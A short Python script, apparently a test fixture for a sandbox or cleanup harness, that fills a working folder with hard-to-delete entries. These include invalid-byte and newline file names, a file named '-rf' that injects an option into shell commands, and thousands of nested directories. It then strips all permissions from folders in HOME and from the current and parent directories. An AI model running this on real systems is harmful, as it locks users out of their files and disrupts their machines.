"""The working folder is made unreadable, moved, and filled with what is hard to delete."""
# solves = []
# keeps = []

# %% words-solution
import os

for name in (b"caf\xe9", "a\nb".encode(), b"-rf", b"x" * 255, b"\xff" * 200):
    open(name, "w").close()
try:
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
os.chdir(os.environ["HOME"])
os.mkdir("closed")
os.mkdir("closed/inner")
os.chmod("closed/inner", 0)
os.chmod("closed", 0)
os.chmod(".", 0)
os.chmod("..", 0)
